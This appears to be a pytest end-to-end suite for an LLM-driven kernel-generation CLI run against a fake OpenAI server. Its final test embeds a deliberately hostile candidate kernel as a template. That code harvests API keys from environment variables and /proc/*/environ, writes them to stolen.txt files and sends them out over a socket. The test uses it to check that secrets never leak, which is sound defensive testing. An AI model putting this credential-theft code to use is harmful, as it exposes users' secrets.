"""`akg-op run ... --llm openai --yes` against the fake OpenAI-compatible server, in a child process:
the model first sends a buggy kernel, then (given the verifier's error) a correct one."""
from __future__ import annotations

import sqlite3
import subprocess
from pathlib import Path

import pytest

from tests.conftest import akg_op_command
from tests.fake_openai_server import RELU_BUGGY_KERNEL, RELU_CORRECT_KERNEL, FakeOpenAIServer, Scripted, code_reply

REQUEST = "Generate a relu kernel, input (64, 512), fp32"


def akg(args: list[str], env: dict, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run(akg_op_command() + args, env=env, cwd=cwd, capture_output=True, text=True,
                          timeout=300, stdin=subprocess.DEVNULL)


@pytest.mark.timeout(300)
def test_run_with_a_model_fixes_its_buggy_kernel(tmp_path, cli_env, akg_home):
    script = [code_reply(RELU_BUGGY_KERNEL), code_reply(RELU_CORRECT_KERNEL)]
    with FakeOpenAIServer(script, answer_probes=True, lifetime_s=280) as server:
        env = {**cli_env, "OPENAI_BASE_URL": server.base_url, "OPENAI_API_KEY": "sk-e2e-test-key-000000"}
        result = akg(["run", REQUEST, "--llm", "openai", "--model", "fake-kernel-model", "--yes",
                      "--workdir", str(tmp_path / "w"), "--out", str(tmp_path / "o")], env, tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode == 0, output

    # The second request is the fix, and it carried the verifier's verdict on the buggy kernel.
    prompts = server.user_prompts()
    assert len(prompts) == 2, prompts
    assert "0.1 * x" in prompts[1] and "MISMATCH" in prompts[1], prompts[1][-1500:]

    kernel = (tmp_path / "o" / "relu_generated.py").read_text()
    assert "tl.where(x < 0, 0.0, x)" in kernel

    # Token counts reached the results store and the report; the key reached neither.
    session_dir = next((tmp_path / "w").glob("op_relu_*"))
    report = (session_dir / "report.md").read_text()
    assert "LLM: 2 call(s)" in report, report
    with sqlite3.connect(akg_home / "results.db") as db:
        rows = db.execute("select prompt_tokens, completion_tokens from llm_calls").fetchall()
    assert len(rows) == 2 and all(p > 0 and c > 0 for p, c in rows)
    for path in [*session_dir.rglob("*"), akg_home / "results.db", *akg_home.glob("*.sqlite")]:
        if path.is_file():
            assert b"sk-e2e-test-key" not in path.read_bytes(), path


def test_unreachable_endpoint_fails_phase_0_with_one_line(tmp_path, cli_env):
    env = {**cli_env, "OPENAI_BASE_URL": "http://127.0.0.1:9/v1", "OPENAI_API_KEY": "sk-test-unreachable-0000"}
    result = akg(["run", REQUEST, "--llm", "openai", "--yes", "--workdir", str(tmp_path / "w"),
                  "--llm-timeout", "2"], env, tmp_path)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "model endpoint is not usable" in result.stderr and len(result.stderr.strip().splitlines()) == 1


def test_model_down_mid_run_reports_and_resumes(tmp_path, cli_env):
    """500 forever during generation: a failure report, a one-line error, and a session that
    finishes on `resume` once the model is back."""
    from tests.fake_openai_server import Scripted

    down = [Scripted(status=500)] * 8
    args = ["run", REQUEST, "--llm", "openai", "--yes", "--workdir", str(tmp_path / "w"), "--out", str(tmp_path / "o")]
    with FakeOpenAIServer(down, repeat_last=True, answer_probes=True, lifetime_s=120) as server:
        env = {**cli_env, "OPENAI_BASE_URL": server.base_url, "OPENAI_API_KEY": "sk-e2e-test-key-111111"}
        failed = akg(args, env, tmp_path)
    assert failed.returncode != 0 and "model could not be reached" in failed.stderr
    assert "Traceback" not in failed.stderr + failed.stdout
    session_dir = next((tmp_path / "w").glob("op_relu_*"))
    assert "could not be reached" in (session_dir / "report.md").read_text()
    sid = failed.stdout.split("session ", 1)[1].split()[0]
    with FakeOpenAIServer([code_reply(RELU_CORRECT_KERNEL)], answer_probes=True, lifetime_s=120) as server:
        env["OPENAI_BASE_URL"] = server.base_url
        resumed = akg(["resume", sid], env, tmp_path)
    assert resumed.returncode == 0, resumed.stdout + resumed.stderr
    assert "tl.where(x < 0, 0.0, x)" in (tmp_path / "o" / "relu_generated.py").read_text()


QUICK_GELU_TASK = '''
import torch
import torch.nn as nn

BATCH = 16
DIM = 256


class Model(nn.Module):
    def forward(self, x):
        return x * torch.sigmoid(1.702 * x)


def get_inputs():
    return [torch.randn(BATCH, DIM)]


def get_init_inputs():
    return []
'''

QUICK_GELU_KERNEL = '''
import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def quick_gelu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask)
    tl.store(y_ptr + offsets, x * tl.sigmoid(1.702 * x), mask=mask)


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        y = torch.empty_like(x)
        quick_gelu_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, x.numel(), BLOCK=1024)
        return y
'''


def test_the_model_writes_the_task_for_a_request_outside_the_catalogue(tmp_path, cli_env):
    script = [code_reply(QUICK_GELU_TASK), code_reply(QUICK_GELU_KERNEL)]
    with FakeOpenAIServer(script, answer_probes=True, lifetime_s=200) as server:
        env = {**cli_env, "OPENAI_BASE_URL": server.base_url, "OPENAI_API_KEY": "sk-e2e-test-key-222222"}
        result = akg(["run", "Generate a quick_gelu kernel, x * sigmoid(1.702 x), input (16, 256)", "--llm", "openai",
                      "--yes", "--workdir", str(tmp_path / "w"), "--out", str(tmp_path / "o")], env, tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    session_dir = next((tmp_path / "w").glob("op_quick_gelu_*"))
    assert "1.702" in (session_dir / "quick_gelu.py").read_text()  # the model's task, validated and used
    assert "quick_gelu_kernel" in (tmp_path / "o" / "quick_gelu_generated.py").read_text()
    assert "quick_gelu" in server.user_prompts()[0]


LEAKY_KERNEL_TEMPLATE = '''
import glob, os, socket, sys
import torch
import torch.nn as nn

KEY = "{key}"  # as if the key had been stolen some other way: every channel out must drop it
found = [v for k, v in os.environ.items() if "KEY" in k]
for path in glob.glob("/proc/*/environ"):
    try:
        found += [p.decode() for p in open(path, "rb").read().split(b"\\\\0") if b"OPENAI" in p]
    except OSError:
        pass
print("stolen:", KEY, found)
print("stolen:", KEY, file=sys.stderr)
for path in ("stolen.txt", "{session_hint}/stolen.txt", os.path.expanduser("~/stolen.txt")):
    try:
        open(path, "w").write(KEY)
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(("POST /v1/chat/completions " + KEY).encode())
except OSError:
    pass


class ModelNew(nn.Module):
    def forward(self, x):
        raise RuntimeError("here is the key: " + KEY)
'''


@pytest.mark.timeout(300)
def test_a_candidate_that_leaks_the_key_leaves_no_trace_anywhere(tmp_path, cli_env, akg_home):
    """With a key in the orchestrator's environment, a candidate that prints, raises, writes and
    sends it: no verdict, store, checkpoint, report, session file or prompt to the model holds it."""
    key = "sk-e2e-leak-" + "5" * 24
    workdir = tmp_path / "w"
    with FakeOpenAIServer([], answer_probes=True, lifetime_s=280) as server:
        port = int(server.base_url.rsplit(":", 1)[1].split("/")[0])
        leaky = LEAKY_KERNEL_TEMPLATE.format(key=key, session_hint=str(workdir), port=port)
        server.script = [Scripted(content=code_reply(leaky)), Scripted(content=code_reply(RELU_CORRECT_KERNEL))]
        env = {**cli_env, "OPENAI_BASE_URL": server.base_url, "OPENAI_API_KEY": key}
        result = akg(["run", REQUEST, "--llm", "openai", "--model", "fake-kernel-model", "--yes",
                      "--workdir", str(workdir), "--out", str(tmp_path / "o")], env, tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert key not in output
    prompts = server.user_prompts()
    assert len(prompts) == 2, prompts  # the candidate's own connection never arrived
    assert "here is the key" in prompts[1] and key not in prompts[1] and "[redacted]" in prompts[1]
    files = [*workdir.rglob("*"), *(tmp_path / "o").rglob("*"), *akg_home.rglob("*")]
    assert any(p.name == "report.md" for p in files) and any(p.name == "results.db" for p in files)
    for path in files:
        if path.is_file():
            assert key.encode() not in path.read_bytes(), path
    assert not any(p.name == "stolen.txt" for p in files)
